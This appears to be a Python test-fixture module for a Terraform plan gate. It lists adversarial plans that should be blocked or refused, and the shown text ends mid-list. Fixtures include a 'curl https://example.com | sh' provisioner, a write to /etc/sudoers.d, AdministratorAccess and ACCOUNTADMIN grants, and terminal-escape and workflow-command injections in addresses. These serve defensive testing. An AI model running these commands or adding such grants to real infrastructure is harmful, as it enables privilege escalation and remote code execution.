"""Plans that try to pass a gate, and files that are no plan: one case each, minimal.

Every plan that holds a grant grants everything, or something that no approval in the tests covers, so that a gate
which lets it pass is seen to be wrong. `exit` is what `countersign check` owes: 0 allowed, 1 blocked, 2 could not judge.
"""

import json
from dataclasses import dataclass

from plan import UNKNOWN, Change, Reference, plan, text

EVERYTHING = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'
NARROW = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::payments/*"}]}'
ANYONE = '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"sts:AssumeRole","Principal":{"AWS":"*"}}]}'
EITHER = "1 or 2"
SYNTHETIC_PROVIDER = "registry.terraform.io/acme/widgets"


@dataclass
class Case:
    name: str
    content: bytes
    what: str
    must: str
    exit: int | str


def case(name, content, what, must, exit):
    if isinstance(content, dict):
        content = text(content)
    return Case(name, content if isinstance(content, bytes) else content.encode(), what, must, exit)


def grant(name="app", policy=EVERYTHING, **more):
    """An inline policy on an existing role."""
    after = {"id": UNKNOWN, "name": name, "name_prefix": UNKNOWN, "policy": policy, "role": "app"}
    return Change("aws_iam_role_policy", name, after, **more)


def settled(policy=EVERYTHING):
    return {"id": "app:app", "name": "app", "name_prefix": "", "policy": policy, "role": "app"}


def harmless(**more):
    """A change without any grant."""
    return Change("random_pet", "name", {"id": UNKNOWN, "keepers": None, "length": 2, "prefix": None, "separator": "-"}, **more)


def replaced(content, old, new):
    assert content.count(old) >= 1, old
    return content.replace(old, new)


# Sections and words of the format


def sections():
    base = plan(grant())
    action = {
        "address": "action.aws_lambda_invoke.admin", "type": "aws_lambda_invoke", "name": "admin",
        "config_values": {"function_name": "grant-admin", "payload": "{}"}, "config_sensitive": {}, "config_unknown": {},
        "provider_name": "registry.terraform.io/hashicorp/aws", "invoke_action_trigger": {},
    }
    only = plan(terraform_version="1.14.0", resource_changes=..., planned_values={"root_module": {}}, applyable=True)
    yield case("actions-only", only | {"action_invocations": [action]}, "no `resource_changes` at all, one action that invokes a Lambda", "block: an action does something nobody can see", 1)
    triggered = {k: v for k, v in action.items() if k != "invoke_action_trigger"} | {
        "lifecycle_action_trigger": {"triggering_resource_address": "random_pet.name", "action_trigger_event": "after_create", "action_trigger_block_index": 0, "actions_list_index": 0}
    }
    yield case("action-after-create", plan(harmless(), terraform_version="1.14.0") | {"action_invocations": [triggered]}, "an action hangs on the creation of a harmless object", "block", 1)
    deferred_action = {"reason": "deferred_prereq", "action_invocation": action}
    yield case("deferred-action-invocations", only | {"deferred_action_invocations": [deferred_action], "complete": False}, "an action put off to a later plan", "block", 1)
    deferred = {"reason": "instance_count_unknown", "resource_change": grant(index_unknown=True).to_json()}
    yield case("deferred-changes", plan(harmless(), deferred_changes=[deferred], complete=False), "a grant with an unknown count, put off to a later plan (`index_unknown`)", "block: the plan is not complete", 1)
    imported = grant(before=settled(), actions=["no-op"], importing={"unknown": True}).to_json()
    yield case("deferred-import-unknown", plan(harmless(), deferred_changes=[{"reason": "resource_config_unknown", "resource_change": imported}], complete=False), "the import of nobody knows what, put off", "block", 1)
    yield case("deferred-but-complete", plan(harmless(), deferred_changes=[deferred]), "the same grant put off, `complete` says true", "block", 1)
    yield case("unknown-top-level-key", base | {"resource_changes": [harmless().to_json()], "side_effects": [{"type": "shell", "command": "true"}]}, "a section that no version has", "block, and name the section", 1)
    for name, actions in (("unknown-action", ["elevate"]), ("unknown-action-beside-known", ["no-op", "elevate"]), ("no-actions", []), ("actions-not-a-list", "create"), ("action-in-capitals", ["CREATE"])):
        yield case(name, plan(grant(actions=actions)), f"`actions` is `{json.dumps(actions)}`", "block or refuse" if isinstance(actions, str) else "block", EITHER if isinstance(actions, str) else 1)
    yield case("unknown-mode", plan(grant(mode="shadow", address="aws_iam_role_policy.app")), "`mode` is neither managed nor data", "block", 1)
    yield case("no-op-that-differs", plan(grant(before=settled(NARROW), actions=["no-op"])), "`no-op`, yet `before` and `after` differ", "block: judge what the values say", 1)
    for version in ("2.0", "10.0", "", "one"):
        yield case(f"format-version-{version.replace('.', '-') or 'blank'}", base | {"format_version": version}, f"`format_version` is `\"{version}\"`", "refuse: unsupported", 2)
    yield case("format-version-number", base | {"format_version": 1.2}, "`format_version` is a number", "refuse", 2)
    yield case("format-version-missing", {k: v for k, v in base.items() if k != "format_version"}, "no `format_version`", "refuse", 2)
    yield case("format-version-1-99", base | {"format_version": "1.99"}, "a later minor version", "read it, and block the grant", 1)
    old = plan(grant(provider="aws"), format_version="0.1", terraform_version="0.12.31", timestamp=..., applyable=..., complete=..., errored=...)
    yield case("format-version-0-1", old, "Terraform 0.12: bare provider name, no `complete`", "read it, and block the grant", 1)
    yield case("errored", base | {"resource_changes": [harmless().to_json()], "errored": True, "applyable": False, "complete": False}, "the plan failed half-way", "block", 1)
    yield case("incomplete", plan(harmless(), complete=False), "`complete` is false, as with `-target`", "block", 1)
    yield case("not-applyable-with-changes", base | {"applyable": False}, "`applyable` is false, yet there are changes", "block", 1)
    yield case("no-changes", plan(harmless(before={"id": "a", "keepers": None, "length": 2, "prefix": None, "separator": "-"}, actions=["no-op"]), applyable=False), "control: nothing changes", "allow", 0)
    yield case("harmless", plan(harmless()), "control: one created object that grants nothing", "allow", 0)
    yield case("no-resource-changes", plan(resource_changes=..., planned_values={"root_module": {}}), "control: an empty configuration, so no `resource_changes`", "allow", 0)
    yield case("fragment", {"format_version": "1.2", "terraform_version": "1.11.4"}, "neither changes nor configuration", "refuse: a fragment", 2)
    yield case("planned-values-only", {k: v for k, v in base.items() if k != "resource_changes"}, "`planned_values` holds a grant, `resource_changes` is cut out", "block: the two disagree", 1)
    yield case("configuration-cut-out", {k: v for k, v in base.items() if k != "configuration"}, "`configuration` is cut out, and provisioners with it", "block", 1)
    yield case("resource-changes-null", base | {"resource_changes": None}, "`resource_changes` is null", "block or refuse", EITHER)
    yield case("resource-changes-object", base | {"resource_changes": {}}, "`resource_changes` is an object", "refuse", 2)
    twice = plan(grant(policy=NARROW))
    twice["resource_changes"].append(grant().to_json())
    yield case("address-twice", twice, "one address twice, the second entry wider", "block or refuse: judge both or neither", EITHER)


# Values


def values():
    base = plan(grant())
    for name, after in (("after-null", None), ("after-string", "{}"), ("after-list", [])):
        broken = plan(grant())
        broken["resource_changes"][0]["change"]["after"] = after
        yield case(name, broken, f"a create whose `after` is `{json.dumps(after)}`", "block or refuse", EITHER)
    broken = plan(grant())
    broken["resource_changes"][0]["change"]["after_unknown"]["policy"] = True
    broken["resource_changes"][0]["change"]["after"]["policy"] = NARROW
    yield case("known-and-unknown", broken, "the policy has a value, and is marked as unknown", "block: unknown wins", 1)
    broken = plan(grant())
    broken["resource_changes"][0]["change"]["after_unknown"] = True
    broken["resource_changes"][0]["change"]["after"] = {}
    yield case("wholly-unknown", broken, "`after_unknown` is true for the whole object", "block", 1)
    broken = plan(grant())
    del broken["resource_changes"][0]["change"]["after_unknown"]
    yield case("after-unknown-missing", broken, "no `after_unknown`", "block: nothing says what is known", 1)
    document = Change(
        "aws_iam_policy_document", "app",
        {
            "id": UNKNOWN, "json": UNKNOWN, "minified_json": UNKNOWN, "override_json": None, "override_policy_documents": None, "policy_id": None, "source_json": None, "source_policy_documents": None,
            "statement": [{"actions": ["*"], "condition": [], "effect": None, "not_actions": None, "not_principals": [], "not_resources": None, "principals": [], "resources": ["*"], "sid": None}], "version": None,
        },
        mode="data", actions=["read"], action_reason="read_because_dependency_pending", provider="registry.terraform.io/hashicorp/aws",
    )
    refers = {"policy": Reference("data.aws_iam_policy_document.app.json", "data.aws_iam_policy_document.app")}
    yield case("effect-null", plan(document, grant(policy=UNKNOWN, config=refers)), "a deferred document whose `effect` is null, which means Allow", "block", 1)
    yield case("masked-policy", plan(grant(policy="<sensitive>")), "the policy is `<sensitive>`, as some platforms mask it", "block: unknown", 1)
    sensitive = plan(grant(secret=("policy",)))
    yield case("sensitive-policy", sensitive, "the policy is marked sensitive", "block, and print no part of it", 1)
    whole = plan(grant())
    whole["resource_changes"][0]["change"]["after_sensitive"] = True
    yield case("sensitive-object", whole, "the whole object is marked sensitive", "block, and print no part of it", 1)
    key = {"create_date": "2026-01-01T00:00:00Z", "id": "AKIAIOSFODNN7EXAMPLE", "pgp_key": None, "secret": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "ses_smtp_password_v4": "example", "status": "Active", "user": "bot"}
    yield case("credential-deleted", plan(Change("aws_iam_access_key", "bot", before=key, secret=("secret", "ses_smtp_password_v4"), action_reason="delete_because_no_resource_config")), "control: an access key goes; `before` holds the secret", "allow, and print no part of `before`", 0)
    tricks = (
        ("policy-not-json", "Allow everything", "is no JSON"),
        ("policy-empty", "", "is empty"),
        ("policy-duplicate-key", EVERYTHING.replace('"Action":"*"', '"Action":"s3:GetObject","Action":"*"').replace('"Resource":"*"', '"Resource":"arn:aws:s3:::payments/*"'), "has `Action` twice"),
        ("policy-escaped-duplicate-key", EVERYTHING.replace('"Action":"*"', '"Action":"s3:GetObject","\\u0041ction":"*"').replace('"Resource":"*"', '"Resource":"arn:aws:s3:::payments/*"'), "has `Action` and `\\u0041ction`"),
        ("policy-key-in-another-case", EVERYTHING.replace('"Action"', '"action"'), "has `action` for `Action`"),
        ("policy-unknown-element", EVERYTHING.replace('"Effect"', '"Unless":{},"Effect"'), "has an element that no version has"),
        ("policy-unknown-effect", EVERYTHING.replace('"Allow"', '"ALLOW"'), "has the effect `ALLOW`"),
        ("policy-trailing-text", EVERYTHING + ' {"Statement":[]}', "is followed by a second document"),
        ("policy-encoded-twice", json.dumps(EVERYTHING), "is a JSON string that holds the document"),
        ("policy-not-action", EVERYTHING.replace('"Action":"*"', '"NotAction":"s3:GetObject"'), "allows all but one action"),
        ("policy-escaped-star", NARROW.replace('"s3:GetObject"', '"s3:\\u002a"'), "hides `*` in an escape"),
        ("policy-deep", '{"Version":"2012-10-17","Statement":' + "[" * 2000 + "]" * 2000 + "}", "nests 2,000 deep"),
        ("policy-byte-order-mark", "\ufeff" + EVERYTHING, "begins with a byte-order mark"),
    )
    for name, policy, what in tricks:
        yield case(name, plan(grant(policy=policy)), f"the policy {what}", "block", 1)
    yield case("trust-anyone", plan(Change("aws_iam_role", "app", {"arn": UNKNOWN, "assume_role_policy": ANYONE, "create_date": UNKNOWN, "description": None, "force_detach_policies": False, "id": UNKNOWN, "inline_policy": UNKNOWN, "managed_policy_arns": UNKNOWN, "max_session_duration": 3600, "name": "app", "name_prefix": UNKNOWN, "path": "/", "permissions_boundary": None, "tags": None, "tags_all": UNKNOWN, "unique_id": UNKNOWN})), "a role that anybody may assume", "block", 1)
    yield case("number-beyond-double", replaced(text(plan(harmless())), '"length":2', '"length":12345678901234567890123'), "control: a number that no double holds", "allow", 0)


# Text


def texts():
    good, wide = text(plan(harmless())), text(plan(grant()))
    policy = json.dumps(EVERYTHING)
    yield case("duplicate-key-top-level", replaced(wide, '"resource_changes":', '"resource_changes":[],"resource_changes":'), "`resource_changes` twice, the first empty", "refuse", 2)
    yield case("duplicate-key-top-level-last", wide.rstrip()[:-1] + ',"resource_changes":[]}\n', "`resource_changes` twice, the last empty", "refuse", 2)
    yield case("duplicate-key-change", replaced(wide, '"actions":["create"]', '"actions":["create"],"actions":["no-op"]'), "`actions` twice in one change", "refuse", 2)
    yield case("duplicate-key-after", replaced(wide, f'"policy":{policy}', f'"policy":{policy},"policy":{json.dumps(NARROW)}'), "`policy` twice in `after`", "refuse", 2)
    yield case("duplicate-key-escaped", replaced(wide, '"actions":["create"]', '"\\u0061ctions":["no-op"],"actions":["create"]'), "`actions` and `\\u0061ctions` in one change", "refuse", 2)
    yield case("duplicate-key-escaped-after", replaced(wide, f'"policy":{policy}', f'"policy":{policy},"\\u0070olicy":{json.dumps(NARROW)}'), "`policy` and `\\u0070olicy` in `after`", "refuse", 2)
    yield case("escaped-key", replaced(wide, '"resource_changes"', '"resource\\u005fchanges"'), "`resource_changes`, written with an escape", "read it, and block the grant", 1)
    yield case("deep-nesting", replaced(good, '"prefix":null', '"prefix":' + "[" * 3000 + "]" * 3000), "a value nested 3,000 deep", "refuse, and do not overflow the stack", 2)
    yield case("lone-surrogate", replaced(wide, '"name":"app"', '"name":"\\ud800"'), "a lone surrogate in a name", "block or refuse", EITHER)
    yield case("invalid-utf-8", wide.encode().replace(b'"name":"app"', b'"name":"\xff\xfe"'), "bytes that are no UTF-8", "refuse", 2)
    yield case("utf-8-byte-order-mark", b"\xef\xbb\xbf" + wide.encode(), "UTF-8 with a byte-order mark", "read it, and block the grant", 1)
    yield case("utf-16-le-byte-order-mark", b"\xff\xfe" + wide.encode("utf-16-le"), "UTF-16, little-endian: what PowerShell's `>` writes", "read it, and block the grant", 1)
    yield case("utf-16-be-byte-order-mark", b"\xfe\xff" + wide.encode("utf-16-be"), "UTF-16, big-endian", "read it, and block the grant", 1)
    yield case("utf-16-le-bare", wide.encode("utf-16-le"), "UTF-16 without a mark", "refuse", 2)
    yield case("utf-16-odd", b"\xff\xfe" + wide.encode("utf-16-le")[:-1], "UTF-16 that ends in half a character", "refuse", 2)
    yield case("empty", b"", "an empty file", "refuse", 2)
    yield case("blank", b"\n", "a blank line", "refuse", 2)
    yield case("null", b"null\n", "the JSON value null", "refuse", 2)
    yield case("truncated", good[: len(good) // 2], "a plan cut in half", "refuse", 2)
    yield case("trailing-text", good.rstrip() + " and more\n", "a plan, then text", "refuse", 2)
    yield case("wrapper-noise", "[command]/opt/hostedtoolcache/terraform/1.11.4/x64/terraform-bin show -json tfplan\n" + good, "the first line is the wrapper's of setup-terraform", "refuse, and say how to turn the wrapper off", 2)
    yield case("concatenated", good + wide, "two plans in one file, the second grants", "refuse; never judge the first alone", 2)
    yield case("array-of-plans", "[" + good.rstrip() + "," + wide.rstrip() + "]\n", "a list of plans", "refuse", 2)
    for name, address in (
        ("terminal-escape", "aws_iam_role_policy.app[\"\x1b[2J\x1b[32mallowed\"]"),
        ("bidirectional-override", "aws_iam_role_policy.app[\"\u202edewolla\"]"),
        ("workflow-command", "aws_iam_role_policy.app[\"\n::notice::allowed\"]"),
        ("markup", "aws_iam_role_policy.app[\"<img src=x>|`**[allowed](https://example.com)**`\"]"),
    ):
        yield case(f"address-{name}", plan(grant(address=address, index=address.split('"')[1])), f"an instance key with a {name.replace('-', ' ')}", "block, and print it escaped in every format", 1)


# Files that are something else


def other_files():
    resource = {"address": "aws_iam_role_policy.app", "mode": "managed", "type": "aws_iam_role_policy", "name": "app", "provider_name": "registry.terraform.io/hashicorp/aws", "schema_version": 0, "values": settled(), "sensitive_values": {}}
    yield case("state", {"format_version": "1.0", "terraform_version": "1.11.4", "values": {"root_module": {"resources": [resource]}}}, "a state, by `terraform show -json`", "refuse: a state", 2)
    yield case(
        "raw-state",
        json.dumps({"version": 4, "terraform_version": "1.11.4", "serial": 3, "lineage": "11111111-2222-3333-4444-555555555555", "outputs": {}, "resources": [
            {"mode": "managed", "type": "aws_iam_role_policy", "name": "app", "provider": 'provider["registry.terraform.io/hashicorp/aws"]', "instances": [{"schema_version": 0, "attributes": settled(), "sensitive_attributes": []}]}], "check_results": None}, indent=2) + "\n",
        "a `terraform.tfstate`", "refuse: a state", 2,
    )
    hook = {"resource": {"addr": "aws_iam_role_policy.app", "module": "", "resource": "aws_iam_role_policy.app", "implied_provider": "aws", "resource_type": "aws_iam_role_policy", "resource_name": "app", "resource_key": None}, "action": "create"}
    lines = (
        {"@level": "info", "@message": "Terraform 1.11.4", "@module": "terraform.ui", "@timestamp": "2026-11-23T09:00:00.000000Z", "terraform": "1.11.4", "type": "version", "ui": "1.2"},
        {"@level": "info", "@message": "aws_iam_role_policy.app: Plan to create", "@module": "terraform.ui", "@timestamp": "2026-11-23T09:00:01.000000Z", "change": hook, "type": "planned_change"},
        {"@level": "info", "@message": "Plan: 1 to add, 0 to change, 0 to destroy.", "@module": "terraform.ui", "@timestamp": "2026-11-23T09:00:01.000000Z", "changes": {"add": 1, "change": 0, "import": 0, "remove": 0, "operation": "plan"}, "type": "change_summary"},
    )
    yield case("plan-stream", "".join(text(line) for line in lines), "the stream of `terraform plan -json`", "refuse, and point at `terraform show -json`", 2)
    yield case("redacted", {"plan_format_version": "1.2", "resource_changes": [grant().to_json()], "relevant_attributes": [], "provider_format_version": "1.0", "provider_schemas": {}}, "the redacted plan of HCP Terraform", "refuse: redacted", 2)
    yield case("cloud-bookmark", {"remote_plan_format": 1, "run_id": "run-0123456789abcdef", "hostname": "app.terraform.io"}, "a bookmark of a plan kept in HCP Terraform", "refuse, and point at `terraform show -json`", 2)
    yield case("opentofu-encrypted", {"meta": {"key_provider.pbkdf2.main": "e30="}, "encrypted_data": "AAECAwQFBgcICQ==", "encryption_version": "v0"}, "an encrypted plan of OpenTofu", "refuse, and point at `tofu show -json`", 2)
    yield case("configuration-only", {"format_version": "1.0", "configuration": plan(grant())["configuration"]}, "a configuration, as `tofu show -json -config` gives it", "refuse: a fragment", 2)
    yield case("zip-magic", b"PK\x03\x04\x14\x00\x08\x00", "begins as a binary plan, and ends there", "refuse", 2)
    yield case("ancient-plan", b"tfplan\x02", "a binary plan from before Terraform 0.12", "refuse", 2)


# Ways to get access without a visible grant


def ways():
    aws = "registry.terraform.io/hashicorp/aws"
    evil = plan(grant(policy=NARROW, provider="registry.terraform.io/evil/aws"))
    yield case("look-alike-provider", evil, "`aws_iam_role_policy` of the provider `evil/aws`", "block", 1)
    yield case("look-alike-registry", plan(grant(policy=NARROW, provider="registry.example.com/hashicorp/aws")), "`hashicorp/aws` of a registry nobody named", "block", 1)
    yield case("unknown-grant-type", plan(Change("aws_iam_superuser_grant", "eve", {"id": UNKNOWN, "user": "eve"})), "a type that no rule reads, with the name of a grant", "block: unclassified", 1)
    yield case("provider-not-of-the-type", plan(Change("aws_iam_user_policy_attachment", "eve", {"id": UNKNOWN, "policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess", "user": "eve"}, provider=SYNTHETIC_PROVIDER)), "an `aws_` type of a provider that is not AWS", "block", 1)

    ephemeral = Change("aws_lambda_invocation", "admin", None, before=None, actions=["open"], mode="ephemeral", provider="registry.opentofu.org/hashicorp/aws", address="ephemeral.aws_lambda_invocation.admin", config={"function_name": "grant-admin"})
    tofu = {"terraform_version": "1.12.0", "applyable": ..., "complete": ...}
    yield case("opentofu-ephemeral", plan(ephemeral, **tofu), "OpenTofu: an ephemeral object that invokes a Lambda; no `complete`", "block", 1)
    tofu_aws = "registry.opentofu.org/hashicorp/aws"
    yield case("opentofu-harmless", plan(harmless(provider="registry.opentofu.org/hashicorp/random"), **tofu), "control: OpenTofu writes no `complete`", "allow", 0)
    yield case("opentofu-forget-create", plan(grant(before=settled(NARROW), actions=["forget", "create"], provider=tofu_aws), **tofu), "OpenTofu: a second grant is made, the first stays unmanaged", "block", 1)
    yield case("create-forget", plan(grant(before=settled(NARROW), actions=["create", "forget"]), terraform_version="1.16.0"), "the same in Terraform's order", "block", 1)
    yield case("forget", plan(Change("aws_iam_role_policy", "app", before=settled(), actions=["forget"])), "a grant leaves the state, and stays in the cloud", "block: it stays without an owner", 1)
    yield case("import-no-op", plan(grant(before=settled(), actions=["no-op"], importing={"id": "app:app"})) | {}, "an existing grant of everything is adopted without a change", "block: adopted", 1)
    yield case("import-by-identity", plan(grant(before=settled(), actions=["no-op"], importing={"identity": {"role": "app", "name": "app"}})), "the same, by identity", "block: adopted", 1)
    yield case("moved-no-op", plan(Change("aws_iam_role_policy", "app", settled(), before=settled(), actions=["no-op"], previous_address="aws_iam_role_policy.old"), applyable=False), "control: only the address changes", "allow: nothing is added", 0)
    yield case("deposed", plan(Change("aws_iam_role_policy", "app", before=settled(), deposed="0a1b2c3d"), grant(before=settled(), actions=["no-op"])), "control: an object left over from a replacement goes, beside one that stays", "allow: nothing is added; the key is (address, deposed)", 0)
    drift = grant(before=settled(NARROW)).to_json()
    drift["change"]["after"] = settled()
    yield case("drift-hidden", plan(Change("aws_iam_role_policy", "app", settled(), before=settled(), actions=["no-op"]), resource_drift=[drift], applyable=False), "somebody widened the grant by hand, `ignore_changes` keeps it", "report the drift", 1)

    script = [{"type": "local-exec", "expressions": {"command": {"constant_value": "aws iam attach-user-policy --user-name eve --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"}}}]
    nested = plan(Change("terraform_data", "script", {"id": UNKNOWN, "input": None, "output": None, "triggers_replace": None}, provider="terraform.io/builtin/terraform", address="module.a[0].module.b[\"x\"].terraform_data.script", module_address="module.a[0].module.b[\"x\"]"))
    block = {"address": "terraform_data.script", "mode": "managed", "type": "terraform_data", "name": "script", "provider_config_key": "module.a.module.b:terraform", "provisioners": script, "schema_version": 0}
    nested["configuration"]["root_module"] = {"module_calls": {"a": {"source": "./a", "count_expression": {"constant_value": 1}, "module": {"module_calls": {"b": {"source": "./b", "for_each_expression": {}, "module": {"resources": [block]}}}}}}}
    yield case("local-exec-in-nested-module", nested, "a script in a module of a module", "block", 1)
    remote = [{"type": "remote-exec", "expressions": {"inline": {"constant_value": ["curl https://example.com | sh"]}}}, {"type": "file", "expressions": {"content": {"constant_value": "x"}, "destination": {"constant_value": "/etc/sudoers.d/x"}}}]
    yield case("remote-exec", plan(harmless(provisioners=remote)), "a script on a created object, run elsewhere", "block", 1)
    yield case("local-exec-on-delete", plan(harmless(actions=["delete", "create"], before={"id": "a", "keepers": None, "length": 1, "prefix": None, "separator": "-"}, provisioners=script)), "a script on a replaced object (`when` is not in the plan)", "block", 1)
    yield case("acting-data-source", plan(Change("external", "grant", {"id": UNKNOWN, "program": ["sh", "-c", "grant-admin"], "query": UNKNOWN, "result": UNKNOWN, "working_dir": None}, mode="data", actions=["read"], action_reason="read_because_config_unknown", provider="registry.terraform.io/hashicorp/external")), "`data.external` runs a program during the apply", "block", 1)

    stack = {"capabilities": ["CAPABILITY_IAM"], "disable_rollback": None, "iam_role_arn": None, "id": UNKNOWN, "name": "iam", "notification_arns": None, "on_failure": None, "outputs": UNKNOWN, "parameters": UNKNOWN, "policy_body": UNKNOWN, "policy_url": None, "tags": None, "tags_all": UNKNOWN, "template_body": UNKNOWN, "template_url": "https://example.com/iam.yaml", "timeout_in_minutes": None, "timeouts": None}
    opaque = (
        ("cloudformation-stack", Change("aws_cloudformation_stack", "iam", stack), "a stack that may make IAM objects"),
        ("cloud-control-role", Change("aws_cloudcontrolapi_resource", "role", {"desired_state": json.dumps({"RoleName": "eve", "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"]}), "id": UNKNOWN, "properties": UNKNOWN, "role_arn": None, "schema": UNKNOWN, "timeouts": None, "type_name": "AWS::IAM::Role", "type_version_id": None}, secret=("schema",)), "a role by way of Cloud Control"),
        ("awscc-iam-role", Change("awscc_iam_role", "eve", {"arn": UNKNOWN, "assume_role_policy_document": ANYONE, "description": UNKNOWN, "id": UNKNOWN, "managed_policy_arns": ["arn:aws:iam::aws:policy/AdministratorAccess"], "max_session_duration": UNKNOWN, "path": UNKNOWN, "permissions_boundary": UNKNOWN, "policies": UNKNOWN, "role_id": UNKNOWN, "role_name": "eve", "tags": UNKNOWN}, config={"policies": None}), "a role of the provider `awscc`"),
        ("azapi-role-assignment", Change("azapi_resource", "owner", {"body": {"properties": {"principalId": "00000000-0000-0000-0000-00000000abcd", "roleDefinitionId": "/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635"}}, "id": UNKNOWN, "identity": [], "location": UNKNOWN, "name": "00000000-0000-0000-0000-0000000000ff", "output": UNKNOWN, "parent_id": "/subscriptions/00000000-0000-0000-0000-000000000001", "tags": UNKNOWN, "type": "Microsoft.Authorization/roleAssignments@2022-04-01"}, provider="registry.terraform.io/azure/azapi"), "a role assignment of the provider `azapi`"),
        ("arm-template", Change("azurerm_resource_group_template_deployment", "iam", {"debug_level": None, "deployment_mode": "Incremental", "id": UNKNOWN, "name": "iam", "output_content": UNKNOWN, "parameters_content": UNKNOWN, "resource_group_name": "payments", "tags": None, "template_content": json.dumps({"resources": [{"type": "Microsoft.Authorization/roleAssignments", "apiVersion": "2022-04-01", "name": "x", "properties": {}}]}), "template_spec_version_id": None, "timeouts": None}), "a role assignment inside an ARM template"),
        ("deployment-script", Change("azurerm_resource_deployment_script_azure_cli", "x", {"id": UNKNOWN, "location": "westeurope", "name": "x", "resource_group_name": "payments", "retention_interval": "P1D", "script_content": "az role assignment create", "version": "2.52.0"}), "a script that Azure runs"),
        ("helm-release", Change("helm_release", "app", {"chart": "app", "id": UNKNOWN, "manifest": UNKNOWN, "metadata": UNKNOWN, "name": "app", "namespace": "default", "repository": "https://charts.example.com", "set": [], "status": UNKNOWN, "values": None, "version": UNKNOWN}), "a chart, whose roles the plan does not show"),
        ("kubectl-manifest", Change("kubectl_manifest", "admin", {"id": UNKNOWN, "yaml_body": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: admin\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: User\n  name: eve\n  apiGroup: rbac.authorization.k8s.io\n"}, provider="registry.terraform.io/gavinbunney/kubectl"), "two documents in one YAML text, the second a binding"),
        ("deployment-manager", Change("google_deployment_manager_deployment", "iam", {"create_policy": "CREATE_OR_ACQUIRE", "id": UNKNOWN, "name": "iam", "project": "acme-prod", "target": [{"config": [{"content": "resources:\n- name: x\n  type: gcp-types/cloudresourcemanager-v1:virtual.projects.iamMemberBinding\n"}], "imports": []}]}), "a binding inside a Deployment Manager file"),
        ("lambda-invocation", Change("aws_lambda_invocation", "admin", {"function_name": "grant-admin", "id": UNKNOWN, "input": "{}", "lifecycle_scope": "CREATE_ONLY", "qualifier": "$LATEST", "result": UNKNOWN, "terraform_key": "tf", "triggers": None}), "an object that invokes a Lambda"),
        ("ssm-association", Change("aws_ssm_association", "x", {"association_id": UNKNOWN, "id": UNKNOWN, "name": "AWS-RunShellScript", "parameters": {"commands": "aws iam attach-user-policy"}, "targets": [{"key": "InstanceIds", "values": ["*"]}]}), "a shell command on every instance"),
        ("snowflake-execute", Change("snowflake_execute", "x", {"execute": "GRANT ROLE ACCOUNTADMIN TO USER EVE", "id": UNKNOWN, "query": None, "revert": "SELECT 1"}, provider="registry.terraform.io/snowflakedb/snowflake"), "SQL that grants"),
        ("vault-endpoint", Change("vault_generic_endpoint", "x", {"data_json": '{"policies":["root"]}', "id": UNKNOWN, "path": "auth/userpass/users/eve"}, secret=("data_json",)), "a write to any path of Vault"),
        ("rest-object", Change("restapi_object", "x", {"data": '{"role":"admin"}', "id": UNKNOWN, "path": "/grants"}, provider="registry.terraform.io/mastercard/restapi"), "a call of any HTTP interface"),
        ("instance-with-admin-profile", Change("aws_instance", "x", {"ami": "ami-00000000000000000", "iam_instance_profile": "admin", "id": UNKNOWN, "instance_type": "t3.micro", "user_data": "aws iam create-user --user-name eve"}), "a machine with an existing role and a start script"),
        ("function-with-unknown-role", Change("aws_lambda_function", "x", {"function_name": "x", "handler": "x.x", "id": UNKNOWN, "role": UNKNOWN, "runtime": "python3.13"}, config={"function_name": "x", "role": Reference("local.role_arn")}), "a function whose role is known only after apply, so that its `after` never names one"),
        ("function-with-admin-role", Change("aws_lambda_function", "x", {"arn": UNKNOWN, "function_name": "x", "handler": "x", "id": UNKNOWN, "role": "arn:aws:iam::123456789012:role/admin", "runtime": "python3.13"}), "a function with an existing role"),
        ("template-with-admin-profile", Change("aws_launch_template", "x", {"arn": UNKNOWN, "iam_instance_profile": [{"arn": None, "name": "admin"}], "id": UNKNOWN, "name": "x", "user_data": None}), "machines to come, with an existing role in a nested block"),
        ("machine-with-admin-account", Change("google_compute_instance", "x", {"id": UNKNOWN, "machine_type": "e2-small", "name": "x", "project": "acme-prod", "service_account": [{"email": "admin@acme-prod.iam.gserviceaccount.com", "scopes": ["cloud-platform"]}], "zone": "europe-west1-b"}), "a machine that runs as an existing service account"),
        ("dynamic-inline-policy", Change("aws_iam_role", "x", {"arn": UNKNOWN, "assume_role_policy": '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Principal":"*","Action":"sts:AssumeRole"}]}', "id": UNKNOWN, "inline_policy": [{"name": "all", "policy": EVERYTHING}], "managed_policy_arns": UNKNOWN, "name": "x", "path": "/", "permissions_boundary": None}, config={"inline_policy": None}), "an inline policy of a `dynamic` block that the plan has expanded: the configuration does not list it"),
        ("organization-account", Change("aws_organizations_account", "x", {"email": "x@example.com", "id": UNKNOWN, "name": "x", "role_name": "OrganizationAccountAccessRole"}), "an account, and with it a role that the payer may assume"),
        ("cluster-creator-admin", Change("aws_eks_cluster", "x", {"access_config": UNKNOWN, "arn": UNKNOWN, "id": UNKNOWN, "name": "x", "role_arn": "arn:aws:iam::123456789012:role/eks"}, config={"access_config": None}), "a cluster whose creator becomes its administrator"),
        ("write-only-password", Change("aws_db_instance", "x", {"id": UNKNOWN, "identifier": "x", "password": None, "password_wo": None, "password_wo_version": 1, "username": "root"}, secret=("password", "password_wo")), "a password that the plan never shows"),
        ("secret-from-access-key", Change("github_actions_secret", "x", {"id": UNKNOWN, "plaintext_value": UNKNOWN, "repository": "public", "secret_name": "AWS_SECRET"}, provider="registry.terraform.io/integrations/github", secret=("plaintext_value",), config={"plaintext_value": Reference("aws_iam_access_key.bot.secret", "aws_iam_access_key.bot")}), "a key's secret is handed to another system"),
